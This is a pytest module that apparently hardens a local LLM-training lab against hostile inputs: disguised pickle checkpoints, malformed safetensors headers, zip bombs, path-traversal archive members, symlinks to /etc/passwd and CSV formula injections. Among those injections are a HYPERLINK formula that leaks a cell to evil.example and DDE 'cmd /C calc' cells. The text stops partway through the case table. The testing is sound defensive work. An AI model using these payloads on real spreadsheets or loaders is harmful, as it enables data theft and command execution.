"""Hostile inputs against core's entry points, one table of named cases.

Every case builds its input under ``tmp_path``, calls one public entry point and checks that the input is either
refused with a single :class:`~core.errors.LabError` sentence, or (a few "handled safely" cases) accepted with its
content kept inert. Every case must also finish within a time bound (a watchdog interrupts hangs) and leave no
trace outside the folders the call may write to: the download cache (``data/``) and the runs folder (``runs/``).
Hostile files are never taken from the repository: each builder makes its own in a fresh ``tmp_path``.

A case that shows a real bug is marked ``xfail(strict=True)`` with the reproduction in its reason, so the table
stays green today and turns red (XPASS) as soon as the bug is fixed and the mark can go.
"""

from __future__ import annotations

import contextlib
import functools
import io
import json
import os
import pickle
import re
import signal
import struct
import sys
import threading
import time
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
import torch
from safetensors.torch import save_file

import core.datasets.fetch as fetch
from core import checkpoint as ck
from core import pretrained, runs
from core.classify import ClassificationDataset
from core.config import GPTConfig
from core.data import create_dataloader, sliding_windows
from core.datasets import (
    DATASETS,
    DatasetInfo,
    download,
    get_info,
    load_corpus,
    parse_instruction_upload,
    parse_table_upload,
    parse_text_upload,
)
from core.datasets.uploads import MAX_INSTRUCTION_BYTES, MAX_TABLE_BYTES, MAX_TEXT_BYTES
from core.errors import SHOWN_LIMIT, LabError, json_or_problem, parse_json_safely, shown
from core.generate import generate
from core.instruct import InstructionDataset
from core.jobs import JobRegistry, start_training_job
from core.lora import apply_lora
from core.model import GPTModel
from core.tokenizers import get_tokenizer, train_bpe
from core.train import Trainer, TrainSettings

LIMIT_S = 10.0  # no hostile input may keep a call busy longer than this
HANG_LIMIT_S = 1.5  # for cases that hang if their bug comes back: fail fast instead of burning the whole bound
ALLOWED = ("data", "runs")  # the only folders under tmp_path a call may create or change files in
TINY = GPTConfig(vocab_size=64, context_length=16, emb_dim=16, n_heads=2, n_layers=1, drop_rate=0.0)
BIG_INT = "1" * 5000  # more digits than Python's int-from-str limit (4,300)


# ------------------------------------------------------------------------------------------------ harness
class Hang(BaseException):
    """Raised by the watchdog; a BaseException so no ``except Exception`` in core can swallow it."""


@contextlib.contextmanager
def watchdog(limit: float) -> Iterator[None]:
    """Interrupt the calling (main) thread after ``limit`` seconds with :class:`Hang`."""
    if not hasattr(signal, "setitimer") or threading.current_thread() is not threading.main_thread():
        yield
        return

    def fire(signum: int, frame: Any) -> None:
        raise Hang(f"still running after {limit:g} s")

    previous = signal.signal(signal.SIGALRM, fire)
    signal.setitimer(signal.ITIMER_REAL, limit)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


class Server:
    """Serves ``files`` (name → bytes) from 127.0.0.1, for the archive cases that go through ``download``."""

    def __init__(self) -> None:
        self.files: dict[str, bytes] = {}
        files = self.files

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def do_GET(self) -> None:
                body = files.get(self.path.lstrip("/"))
                if body is None:
                    self.send_error(404)
                    return
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()

    def url(self, name: str) -> str:
        return f"{self.base}/{name}"


@dataclass(frozen=True)
class Ctx:
    """Where a case lives: ``inp`` holds what the builder made; ``data``/``runs`` may be written by the call;
    ``cwd`` is the working directory during the call and ``outside`` stands for the rest of the disk: both
    must stay untouched."""

    root: Path
    inp: Path
    data: Path
    runs: Path
    cwd: Path
    outside: Path
    server: Server
    monkeypatch: pytest.MonkeyPatch


@dataclass(frozen=True)
class Case:
    """One hostile input: ``build(ctx)`` makes it, ``call(arg, ctx)`` feeds it to an entry point.

    Without ``accept`` the call must raise LabError (whose message matches ``match``, if given); with it, the
    call must return and ``accept(result, arg, ctx)`` checks the input was handled safely. ``gone(ctx)`` lists
    paths that must not exist afterwards (escape targets, pickle tripwires); ``after(ctx)`` checks more.
    """

    name: str
    build: Callable[[Ctx], Any]
    call: Callable[[Any, Ctx], Any]
    match: str | None = None
    accept: Callable[[Any, Any, Ctx], None] | None = None
    gone: Callable[[Ctx], list[Path]] | None = None
    after: Callable[[Ctx], None] | None = None
    limit: float = LIMIT_S
    bug: str | None = None


def reject(name: str, build: Callable, call: Callable, match: str | None = None, **kw: Any) -> Case:
    return Case(name, build, call, match=match, **kw)


def safe(name: str, build: Callable, call: Callable, accept: Callable, **kw: Any) -> Case:
    return Case(name, build, call, accept=accept, **kw)


def lit(value: Any) -> Callable[[Ctx], Any]:
    """A builder for inputs that need no file."""
    return lambda ctx: value


def _equals(expected: Any) -> Callable[[Any, Any, Ctx], None]:
    def check(result: Any, arg: Any, ctx: Ctx) -> None:
        assert result == expected

    return check


def _file(name: str, content: bytes) -> Callable[[Ctx], Path]:
    def build(ctx: Ctx) -> Path:
        (ctx.inp / name).write_bytes(content)
        return ctx.inp / name

    return build


def _folder(name: str) -> Callable[[Ctx], Path]:
    def build(ctx: Ctx) -> Path:
        (ctx.inp / name).mkdir()
        return ctx.inp / name

    return build


def _tree(root: Path) -> dict[str, tuple]:
    """Every entry under ``root`` (symlinks not followed): files by size and mtime, links by target."""
    out: dict[str, tuple] = {}
    for folder, dirs, files in os.walk(root, followlinks=False):
        for name in dirs + files:
            p = Path(folder) / name
            rel = p.relative_to(root).as_posix()
            if p.is_symlink():
                out[rel] = ("link", os.readlink(p))
            elif p.is_dir():
                out[rel] = ("dir",)
            else:
                st = p.stat()
                out[rel] = ("file", st.st_size, st.st_mtime_ns)
    return out


def _check_sentence(msg: str) -> None:
    """One plain sentence: non-empty, short, one line, no traceback, ends like a sentence."""
    assert msg and msg == msg.strip(), repr(msg)
    assert len(msg) < 400, f"{len(msg)} chars: {msg}"
    assert "\n" not in msg and "Traceback" not in msg, msg
    assert msg[-1] in ".)!?'\"", f"does not end like a sentence: {msg}"


# ------------------------------------------------------------------------------------------- file builders
class _Tripwire:
    """Unpickling this opens ``marker`` for writing (creating it): proof that a loader ran pickle."""

    def __init__(self, marker: Path) -> None:
        self.marker = str(marker)

    def __reduce__(self) -> tuple:
        return (open, (self.marker, "w"))


def _tripwire(ctx: Ctx) -> list[Path]:
    return [ctx.outside / "pwned"]


def _safetensors(path: Path, header: dict | bytes, data: bytes = b"", length: int | None = None) -> Path:
    """A safetensors file byte by byte: 8-byte little-endian header length, JSON header, data."""
    blob = header if isinstance(header, bytes) else json.dumps(header).encode()
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(struct.pack("<Q", len(blob) if length is None else length) + blob + data)
    return path


def _st(header: dict | bytes, data: bytes = b"", length: int | None = None, name: str = "model.safetensors"):
    return lambda ctx: _safetensors(ctx.inp / name, header, data, length)


def _lab_header(cfg: dict, tensors: dict | None = None) -> dict:
    """A header that claims to be this lab's checkpoint format, with the given config dict."""
    meta = {"format": ck.FORMAT, "config": json.dumps(cfg), "extra": "{}"}
    return {"__metadata__": meta, **(tensors or {})}


def _tiny_config(**changes: Any) -> dict:
    return {**TINY.to_dict(), **changes}


def _saved_tiny(ctx: Ctx) -> Path:
    """A valid lab checkpoint of TINY, written as ck.save would (minus its fsyncs, slow on a busy disk)."""
    torch.manual_seed(0)
    state = {k: v.contiguous() for k, v in GPTModel(TINY).state_dict().items()}
    path = ctx.inp / "model.safetensors"
    save_file(state, path, metadata={"format": ck.FORMAT, "config": TINY.to_json(), "extra": "{}"})
    return path


def _truncated(fraction: float) -> Callable[[Ctx], Path]:
    def build(ctx: Ctx) -> Path:
        path = _saved_tiny(ctx)
        data = path.read_bytes()
        path.write_bytes(data[: int(len(data) * fraction)])
        return path

    return build


def _pickle_file(ctx: Ctx) -> Path:
    path = ctx.inp / "model.safetensors"
    path.write_bytes(pickle.dumps({"weights": [1.0, 2.0], "payload": _Tripwire(ctx.outside / "pwned")}))
    return path


def _torch_save(legacy: bool) -> Callable[[Ctx], Path]:
    def build(ctx: Ctx) -> Path:
        path = ctx.inp / "model.safetensors"
        obj = {"tok_emb.weight": torch.zeros(2, 2), "payload": _Tripwire(ctx.outside / "pwned")}
        torch.save(obj, path, _use_new_zipfile_serialization=not legacy)
        return path

    return build


def _hf_dir(files: dict[str, bytes | str]) -> Callable[[Ctx], Path]:
    def build(ctx: Ctx) -> Path:
        folder = ctx.inp / "gpt2"
        folder.mkdir(parents=True, exist_ok=True)
        for name, content in files.items():
            target = folder / name
            target.write_bytes(content) if isinstance(content, bytes) else target.write_text(content)
        return folder

    return build


def _hf_weights(ctx: Ctx, extra: dict | None = None, data_bytes: int = 67584) -> None:
    """A tiny but well-formed HF-style header (wte, wpe, one MLP weight) in ``inp/gpt2/model.safetensors``."""
    tensors = {
        "wte.weight": {"dtype": "F32", "shape": [4, 64], "data_offsets": [0, 1024]},
        "wpe.weight": {"dtype": "F32", "shape": [4, 64], "data_offsets": [1024, 2048]},
        "h.0.mlp.c_fc.weight": {"dtype": "F32", "shape": [64, 256], "data_offsets": [2048, 67584]},
        **(extra or {}),
    }
    _safetensors(ctx.inp / "gpt2" / "model.safetensors", tensors, bytes(data_bytes))


def _hf_with_config(config: str) -> Callable[[Ctx], Path]:
    def build(ctx: Ctx) -> Path:
        _hf_weights(ctx)
        (ctx.inp / "gpt2" / "config.json").write_text(config)
        return ctx.inp / "gpt2"

    return build


def _symlink(target: str | Callable[[Ctx], Path], name: str) -> Callable[[Ctx], Path]:
    def build(ctx: Ctx) -> Path:
        dest = target(ctx) if callable(target) else Path(target)
        link = ctx.inp / name
        link.parent.mkdir(parents=True, exist_ok=True)
        link.symlink_to(dest)
        return link

    return build


def _passwd() -> str:
    return "/etc/passwd" if Path("/etc/passwd").is_file() else sys.executable


# --------------------------------------------------------------------------------------------- archives
ZIP_ENTRY = "hostile-zip"
MESSAGES = b"ham\tSee you at 6\nspam\tYou won a prize, call now\nham\tThanks!\n"


def _zip(members: dict[str, bytes], level: int = 9) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zf:
        for name, data in members.items():
            zf.writestr(zipfile.ZipInfo(name), data, compress_type=zipfile.ZIP_DEFLATED, compresslevel=level)
    return buf.getvalue()


@functools.lru_cache(maxsize=1)
def _bomb() -> bytes:
    """100 MB of zeros deflated to about 100 KB (built once, ~0.5 s)."""
    return _zip({"SMSSpamCollection": bytes(100 * 2**20)})


def _lying_bomb() -> bytes:
    """The bomb with its central directory claiming the member is only 100 bytes once inflated."""
    data = bytearray(_bomb())
    central = data.rindex(b"PK\x01\x02")  # central directory entry: uncompressed size at offset 24
    data[central + 24 : central + 28] = (100).to_bytes(4, "little")
    return bytes(data)


def _encrypted() -> bytes:
    """A zip whose member is flagged as encrypted (general-purpose flag bit 0), so it needs a password."""
    data = bytearray(_zip({"SMSSpamCollection": MESSAGES}))
    data[6] |= 1  # local file header flags
    central = data.rindex(b"PK\x01\x02")
    data[central + 8] |= 1  # central directory flags
    return bytes(data)


def _archive(payload: Callable[[Ctx], bytes]) -> Callable[[Ctx], str]:
    """Register a zip dataset shaped like "sms-spam" and serve ``payload`` for it; returns its URL."""

    def build(ctx: Ctx) -> str:
        info = DatasetInfo(
            name=ZIP_ENTRY, title="Hostile archive", kind="classification", description="test",
            source="download", filename="messages.tsv", licence="test", size="3 rows",
            loader="load_classification", url="https://example.invalid/messages.zip",
            archive_member="SMSSpamCollection", rows=3, labels=("ham", "spam"),
        )  # fmt: skip
        ctx.monkeypatch.setitem(DATASETS, ZIP_ENTRY, info)
        name = f"{ctx.root.name}.zip"
        ctx.server.files[name] = payload(ctx)
        return ctx.server.url(name)

    return build


def _download(url: str, ctx: Ctx) -> Path:
    return download(ZIP_ENTRY, url=url, retries=0, timeout=5)


def _extracted_only_messages(result: Path, arg: Any, ctx: Ctx) -> None:
    assert result == ctx.data / "messages.tsv" and result.read_bytes() == MESSAGES
    assert sorted(p.name for p in ctx.data.iterdir()) == ["manifest.json", "messages.tsv"]


def _nothing_kept(ctx: Ctx) -> None:
    """A refused download or upload leaves no file behind in the cache (empty folders are fine)."""
    kept = [p for p in ctx.data.rglob("*") if not p.is_dir()] if ctx.data.exists() else []
    assert kept == [], f"a refused input left {kept}"


def _escape_targets(ctx: Ctx) -> list[Path]:
    return [ctx.root.parent / "evil.txt", ctx.root / "evil.txt", ctx.data.parent / "SMSSpamCollection",
            Path("/tmp/llmlab-hostile-evil.txt")]


# ----------------------------------------------------------------------------------------------- runs
def _run_json(ctx: Ctx, folder: Path, content: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / runs.RUN_FILE).write_text(content)
    return folder


def _symlinked_run(ctx: Ctx) -> Path:
    """runs/escape → outside/victim, a folder with someone's notes and a pickle posing as a checkpoint."""
    victim = ctx.outside / "victim"
    victim.mkdir()
    (victim / "notes.txt").write_text("not a run")
    record = {"format": runs.RUN_FORMAT, "run_id": "escape", "status": "finished", "model_config": {},
              "settings": {}, "metrics": [], "checkpoint_step": 1}
    (victim / runs.RUN_FILE).write_text(json.dumps(record))
    (victim / runs.MODEL_FILE).write_bytes(pickle.dumps(_Tripwire(ctx.outside / "pwned")))
    ctx.runs.mkdir(exist_ok=True)
    (ctx.runs / "escape").symlink_to(victim, target_is_directory=True)
    return ctx.runs


def _symlink_loop(ctx: Ctx) -> Path:
    ctx.runs.mkdir()
    (ctx.runs / "loop").symlink_to(ctx.runs / "loop")
    return ctx.runs


def _listed_as_broken(result: list, arg: Any, ctx: Ctx) -> None:
    assert [(r.run_id, r.status) for r in result] == [("escape", "broken")]
    assert "pickle" in (result[0].reason or "")


def _symlinked_run_with_stale_tmp(ctx: Ctx) -> str:
    victim = ctx.outside / "victim"
    victim.mkdir()
    (victim / ".model.safetensors.0123456789ab.tmp").write_text("someone's file")
    ctx.runs.mkdir(exist_ok=True)
    (ctx.runs / "link").symlink_to(victim, target_is_directory=True)
    return "link"


def _job(run_id: str, ctx: Ctx, resume: bool = False) -> Any:
    return start_training_job(
        TINY, TrainSettings(max_steps=1, batch_size=1, device="cpu"), list(range(64)) * 4,
        runs_dir=ctx.runs, run_id=run_id, resume=resume, jobs=JobRegistry(max_jobs=1),
    )  # fmt: skip


def _resume_with(model_config: dict, settings: dict) -> Callable[[Ctx], Path]:
    def build(ctx: Ctx) -> Path:
        record = {"format": runs.RUN_FORMAT, "run_id": "r", "status": "stopped", "model_config": model_config,
                  "settings": settings, "metrics": []}
        return _run_json(ctx, ctx.runs / "r", json.dumps(record))

    return build


# ------------------------------------------------------------------------------------- models and text
@functools.lru_cache(maxsize=1)
def _model() -> GPTModel:
    torch.manual_seed(0)
    return GPTModel(TINY).eval()


def _fresh_model(ctx: Ctx) -> GPTModel:
    torch.manual_seed(0)
    return GPTModel(TINY)


def _gen(**kw: Any) -> Callable[[Any, Ctx], Any]:
    return lambda model, ctx: generate(model, [1, 2, 3], **{"max_new_tokens": 2, **kw})


def _csv(text: str) -> Callable[[Ctx], bytes]:
    return lit(text.encode("utf-8"))


def _table(name: str = "upload.csv") -> Callable[[bytes, Ctx], Any]:
    return lambda data, ctx: parse_table_upload(data, name)


def _instr(name: str) -> Callable[[bytes, Ctx], Any]:
    return lambda data, ctx: parse_instruction_upload(data, name)


INJECTION = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "=1+1",
]


def _injection_csv(ctx: Ctx) -> bytes:
    rows = ["text,label"] + [f'"{cell.replace(chr(34), chr(34) * 2)}",{lab}'
                             for cell, lab in zip(INJECTION, ["spam", "ham", "spam", "ham", "spam"])]
    return ("\n".join(rows) + "\n").encode()


def _kept_verbatim(result: tuple, arg: Any, ctx: Ctx) -> None:
    df, info = result
    assert df["text"].tolist() == INJECTION  # the literal cell text, never a formula result
    assert all(isinstance(v, str) for v in df["text"])
    assert info["rows"] == len(INJECTION)


def _csv_kept_verbatim_instructions(result: tuple, arg: Any, ctx: Ctx) -> None:
    records, _ = result
    assert [r["instruction"] for r in records] == INJECTION


def _settings_accepted(result: TrainSettings, arg: Any, ctx: Ctx) -> None:
    assert result.max_steps == 10**12


def _trainer_lazy(result: Trainer, arg: Any, ctx: Ctx) -> None:
    assert result.step == 0 and result.settings.max_steps == 10**12
    assert not ctx.runs.exists() or not any(ctx.runs.iterdir())  # no run folder given: nothing written


def _huge_cfg(**kw: Any) -> GPTConfig:
    """Absurd sizes: refused by GPTConfig's upper bounds before anything could be planned or allocated."""
    return GPTConfig(vocab_size=64, context_length=16, emb_dim=10**12, n_heads=8, n_layers=1, **kw)


# Within GPTConfig's bounds but far beyond any machine's memory (about 3·10**12 parameters): Trainer's pre-flight
# memory estimate must refuse it before GPTModel allocates anything.
TOO_BIG = {"vocab_size": 64, "context_length": 16, "emb_dim": 65_536, "n_heads": 8, "n_layers": 64}


def _symlinked_empty_run(ctx: Ctx) -> str:
    """runs/link → outside/victim, an empty folder: a fresh run there would write its files into victim."""
    victim = ctx.outside / "victim"
    victim.mkdir()
    ctx.runs.mkdir(exist_ok=True)
    (ctx.runs / "link").symlink_to(victim, target_is_directory=True)
    return "link"


def _victim_untouched(ctx: Ctx) -> None:
    assert list((ctx.outside / "victim").iterdir()) == [], "a file was written through the linked run folder"


def _hf_blocks(*names: str) -> Callable[[Ctx], Path]:
    """The tiny HF header of _hf_weights plus one 64-float tensor per name (no config.json beside it)."""

    def build(ctx: Ctx) -> Path:
        end = 67584  # after _hf_weights' own tensors: tensors never share bytes
        extra = {name: {"dtype": "F32", "shape": [64], "data_offsets": [end + 256 * i, end + 256 * (i + 1)]}
                 for i, name in enumerate(names)}
        _hf_weights(ctx, extra, data_bytes=end + 256 * len(names))
        return ctx.inp / "gpt2" / "model.safetensors"

    return build


MEGA = "x" * 2**20  # a 1 MB value, as a hostile caller or a hand-edited run.json could pass


# ----------------------------------------------------------------------------------------------- the table
CASES: list[Case] = [
    # --- checkpoints: pickles in disguise ------------------------------------------------------------------
    reject("ckpt-pickle-bytes-as-safetensors", _pickle_file, lambda p, c: ck.load(p), "pickle", gone=_tripwire),
    reject("ckpt-torch-save-zip-as-safetensors", _torch_save(legacy=False), lambda p, c: ck.load(p), "pickle",
           gone=_tripwire),
    reject("ckpt-torch-save-legacy-pickle", _torch_save(legacy=True), lambda p, c: ck.load_state_dict_safely(p),
           "pickle", gone=_tripwire),
    reject("ckpt-info-on-pickle", _pickle_file, lambda p, c: ck.checkpoint_info(p), "pickle", gone=_tripwire),
    reject("hf-folder-with-only-pytorch-model-bin",
           _hf_dir({"pytorch_model.bin": pickle.dumps({"w": 1}), "config.json": "{}"}),
           lambda p, c: ck.load_hf_gpt2(p), "pickle"),
    # --- checkpoints: lying or broken headers ---------------------------------------------------------------
    reject("ckpt-huge-declared-shape-past-eof",
           _st({"w": {"dtype": "F32", "shape": [10**6, 10**6], "data_offsets": [0, 4 * 10**12]}}, bytes(16)),
           lambda p, c: ck.load_state_dict_safely(p), "file holds only"),
    reject("ckpt-huge-shape-tiny-offsets",
           _st({"w": {"dtype": "F32", "shape": [2**40, 2**40], "data_offsets": [0, 16]}}, bytes(16)),
           lambda p, c: ck.load_state_dict_safely(p), "declares shape"),
    reject("ckpt-shape-beyond-int64",
           _st({"w": {"dtype": "U8", "shape": [2**70], "data_offsets": [0, 16]}}, bytes(16)),
           lambda p, c: ck.checkpoint_info(p), "declares shape"),
    reject("ckpt-negative-dimension",
           _st({"w": {"dtype": "F32", "shape": [-1, 4], "data_offsets": [0, 16]}}, bytes(16)),
           lambda p, c: ck.checkpoint_info(p), "malformed shape"),
    reject("ckpt-unknown-dtype",
           _st({"w": {"dtype": "C1024", "shape": [1], "data_offsets": [0, 16]}}, bytes(16)),
           lambda p, c: ck.checkpoint_info(p), "unsupported data type"),
    reject("ckpt-header-length-2-pow-40", _st(b"{}", length=2**40), lambda p, c: ck.load(p), "header claims"),
    reject("ckpt-header-length-u64-max", _st(b"{}", length=2**64 - 1), lambda p, c: ck.checkpoint_info(p),
           "header claims"),
    reject("ckpt-header-deeply-nested-json", _st(b"[" * 100_000 + b"]" * 100_000),
           lambda p, c: ck.load(p), "not readable JSON"),
    reject("ckpt-header-not-an-object", _st(b"[1, 2, 3]"), lambda p, c: ck.checkpoint_info(p), "not a JSON object"),
    reject("ckpt-header-not-utf8", _st(b'{"\xff\xfe": 1}'), lambda p, c: ck.checkpoint_info(p), "not readable JSON"),
    reject("ckpt-metadata-not-strings", _st({"__metadata__": {"format": 1}}), lambda p, c: ck.checkpoint_info(p),
           "__metadata__"),
    reject("ckpt-header-5000-digit-number",
           lambda ctx: _safetensors(ctx.inp / "m.safetensors",
                                    f'{{"w": {{"dtype": "U8", "shape": [{BIG_INT}], "data_offsets": [0, 1]}}}}'
                                    .encode(), b"\0"),
           lambda p, c: ck.checkpoint_info(p)),
    reject("ckpt-truncated-data", _truncated(0.6), lambda p, c: ck.load(p), "file holds only"),
    reject("ckpt-truncated-inside-header", _truncated(0.01), lambda p, c: ck.load(p), "header claims"),
    reject("ckpt-empty-file", _file("empty.safetensors", b""), lambda p, c: ck.load(p), "only 0 bytes"),
    reject("ckpt-header-length-zero", _st(b"", length=0), lambda p, c: ck.load(p), "header claims 0"),
    reject("ckpt-directory-instead-of-file", _folder("d.safetensors"), lambda p, c: ck.load(p), "is a folder"),
    reject("ckpt-missing-file", lambda ctx: ctx.inp / "nope.safetensors", lambda p, c: ck.checkpoint_info(p),
           "no file"),
    reject("ckpt-symlink-to-etc-passwd", _symlink(_passwd(), "model.safetensors"), lambda p, c: ck.load(p)),
    reject("hf-symlink-to-etc-passwd-in-folder", _symlink(_passwd(), "gpt2/model.safetensors"),
           lambda p, c: ck.load_hf_gpt2(p.parent)),
    reject("ckpt-bad-device-name", _saved_tiny, lambda p, c: ck.load(p, device="gpu:../../x"), "device"),
    # --- checkpoints: hostile configurations in the header -----------------------------------------------
    reject("ckpt-config-largest-emb-dim-allocates-nothing",
           _st(_lab_header(_tiny_config(emb_dim=65_536, n_heads=8),
                           {"tok_emb.weight": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}}), bytes(16)),
           lambda p, c: ck.load(p), "shape"),
    reject("ckpt-config-emb-dim-1e12",
           _st(_lab_header(_tiny_config(emb_dim=10**12, n_heads=8),
                           {"tok_emb.weight": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}}), bytes(16)),
           lambda p, c: ck.load(p)),
    reject("ckpt-config-not-json", _st(_lab_header({}) | {"__metadata__": {"format": ck.FORMAT, "config": "{oops"}}),
           lambda p, c: ck.load(p), "unreadable stored configuration"),
    reject("ckpt-config-unknown-field", _st(_lab_header(_tiny_config(__class__="os.system"))),
           lambda p, c: ck.checkpoint_info(p), "Unknown configuration field"),
    reject("ckpt-config-1024-layers-planned-in-no-time",
           _st(_lab_header(_tiny_config(n_layers=1_024),
                           {"tok_emb.weight": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}}), bytes(16)),
           lambda p, c: ck.load(p), "shape", limit=3.0),
    reject("ckpt-config-deeply-nested-json",
           _st({"__metadata__": {"format": ck.FORMAT, "config": "[" * 100_000 + "]" * 100_000, "extra": "{}"}}),
           lambda p, c: ck.load(p), "unreadable stored configuration"),
    reject("ckpt-config-5000-digit-number",
           _st({"__metadata__": {"format": ck.FORMAT, "config": f'{{"emb_dim": {BIG_INT}}}', "extra": "{}"}}),
           lambda p, c: ck.checkpoint_info(p), "unreadable stored configuration"),
    reject("ckpt-extra-deeply-nested-json",
           _st({"__metadata__": {"format": ck.FORMAT, "config": TINY.to_json(), "extra": "[" * 100_000}}),
           lambda p, c: ck.checkpoint_info(p), "extra"),
    reject("ckpt-tensor-name-of-1-mb", _st({MEGA: {"dtype": "C1024", "shape": [1], "data_offsets": [0, 1]}}, b"\0"),
           lambda p, c: ck.checkpoint_info(p), "unsupported data type"),
    reject("ckpt-shape-with-100k-dimensions",
           _st({"w": {"dtype": "U8", "shape": [1] * 100_000, "data_offsets": [0, 2]}}, b"\0\0"),
           lambda p, c: ck.checkpoint_info(p), "declares shape"),
    reject("ckpt-config-emb-dim-1e12-bad-heads", _st(_lab_header(_tiny_config(emb_dim=10**12, n_heads=12))),
           lambda p, c: ck.checkpoint_info(p), limit=HANG_LIMIT_S),
    reject("ckpt-config-a-million-layers", _st(_lab_header(_tiny_config(n_layers=10**6))),
           lambda p, c: ck.load(p), limit=HANG_LIMIT_S),
    # --- Hugging Face folders -------------------------------------------------------------------------------
    reject("hf-config-json-wrong-model-type", _hf_with_config('{"model_type": "llama"}'),
           lambda p, c: ck.load_hf_gpt2(p), "not GPT-2"),
    reject("hf-config-json-malformed-size", _hf_with_config('{"n_embd": "wide", "vocab_size": 4, "n_head": 1, '
                                                           '"n_layer": 1}'),
           lambda p, c: ck.load_hf_gpt2(p), "n_embd must be a whole number, got 'wide'"),
    reject("hf-config-json-deeply-nested", _hf_with_config("[" * 100_000 + "]" * 100_000),
           lambda p, c: ck.load_hf_gpt2(p)),
    reject("hf-config-json-5000-digit-number", _hf_with_config(f'{{"n_embd": {BIG_INT}}}'),
           lambda p, c: ck.load_hf_gpt2(p)),
    reject("hf-layer-index-1e9-in-tensor-name",
           lambda ctx: _hf_weights(ctx, {"h.999999999.ln_1.weight": {"dtype": "F32", "shape": [64],
                                                                     "data_offsets": [0, 256]}})
           or ctx.inp / "gpt2" / "model.safetensors",
           lambda p, c: ck.load_hf_gpt2(p), limit=HANG_LIMIT_S),
    reject("hf-layer-numbers-with-a-gap", _hf_blocks("h.2.ln_1.weight"), lambda p, c: ck.load_hf_gpt2(p),
           "none for h.1"),
    reject("hf-layer-index-5000-digits", _hf_blocks(f"h.{BIG_INT}.ln_1.weight"), lambda p, c: ck.checkpoint_info(p),
           "names a block", limit=HANG_LIMIT_S),
    reject("hf-transformer-prefix-layer-index-1e9",
           _st({"transformer.wte.weight": {"dtype": "F32", "shape": [1, 1], "data_offsets": [0, 4]},
                "transformer.h.999999999.ln_1.weight": {"dtype": "F32", "shape": [1], "data_offsets": [4, 8]}},
               bytes(8)),
           lambda p, c: ck.load_hf_gpt2(p), "h.999999999", limit=HANG_LIMIT_S),
    reject("hf-config-json-a-million-layers",
           _hf_with_config('{"n_embd": 64, "vocab_size": 4, "n_head": 1, "n_layer": 1000000, "n_positions": 4}'),
           lambda p, c: ck.load_hf_gpt2(p), "n_layers must be at most", limit=HANG_LIMIT_S),
    reject("hf-config-json-infinite-width",
           _hf_with_config('{"n_embd": Infinity, "vocab_size": 4, "n_head": 1, "n_layer": 1}'),
           lambda p, c: ck.load_hf_gpt2(p), "n_embd must be a whole number, got inf"),
    reject("hf-config-json-over-1-mb", _hf_with_config(" " * 2**21 + "{}"), lambda p, c: ck.load_hf_gpt2(p),
           "larger than 1 MB"),
    # --- GPT-2 weights a user uploads, names or downloads (core.pretrained) -----------------------------------
    reject("gpt2-upload-pickle", lambda ctx: pickle.dumps(_Tripwire(ctx.outside / "pwned")),
           lambda data, c: pretrained.store_gpt2_upload(data), "pickle", gone=_tripwire, after=_nothing_kept),
    reject("gpt2-upload-etc-passwd", lambda ctx: Path(_passwd()).read_bytes()[:4096],
           lambda data, c: pretrained.store_gpt2_upload(data), "not usable GPT-2 weights", after=_nothing_kept),
    reject("gpt2-upload-layer-index-1e9",
           lambda ctx: _safetensors(ctx.inp / "m.safetensors", {
               "wte.weight": {"dtype": "F32", "shape": [1, 1], "data_offsets": [0, 4]},
               "h.999999999.ln_1.weight": {"dtype": "F32", "shape": [1], "data_offsets": [4, 8]}}, bytes(8))
           .read_bytes(),
           lambda data, c: pretrained.store_gpt2_upload(data), limit=1.0),
    reject("gpt2-upload-5000-digit-number",
           lambda ctx: _safetensors(ctx.inp / "m.safetensors",
                                    f'{{"w": {{"dtype": "U8", "shape": [{BIG_INT}], "data_offsets": [0, 1]}}}}'
                                    .encode(), b"\0").read_bytes(),
           lambda data, c: pretrained.store_gpt2_upload(data), after=_nothing_kept),
    reject("gpt2-path-is-etc-passwd", lit(_passwd()), lambda text, c: pretrained.resolve_gpt2_path(text),
           "not a valid safetensors"),
    reject("gpt2-download-file-url", lit("file:///etc/passwd"),
           lambda url, c: pretrained.download_gpt2("gpt2-small", url=url), "http or https", after=_nothing_kept),
    reject("gpt2-unknown-size", lit("../../gpt2"), lambda size, c: pretrained.download_gpt2(size),
           "Unknown GPT-2 size"),
    # --- dataset archives (through download(), served from 127.0.0.1) -----------------------------------------
    reject("zip-bomb-100mb-of-zeros", _archive(lambda ctx: _bomb()), _download, "zip bomb", gone=_escape_targets,
           after=_nothing_kept),
    reject("zip-bomb-lying-about-its-size", _archive(lambda ctx: _lying_bomb()), _download,
           "zip bomb|not a readable zip", after=_nothing_kept),
    reject("zip-member-dot-dot-evil-txt", _archive(lambda ctx: _zip({"../../evil.txt": b"boom"})), _download,
           "does not contain", gone=_escape_targets, after=_nothing_kept),
    reject("zip-member-absolute-path", _archive(lambda ctx: _zip({"/tmp/llmlab-hostile-evil.txt": b"boom"})),
           _download, "does not contain", gone=_escape_targets, after=_nothing_kept),
    safe("zip-traversal-name-for-the-wanted-member",
         _archive(lambda ctx: _zip({"../../SMSSpamCollection": MESSAGES})), _download, _extracted_only_messages,
         gone=_escape_targets),
    safe("zip-absolute-name-for-the-wanted-member",
         _archive(lambda ctx: _zip({"/tmp/llmlab-hostile/SMSSpamCollection": MESSAGES})), _download,
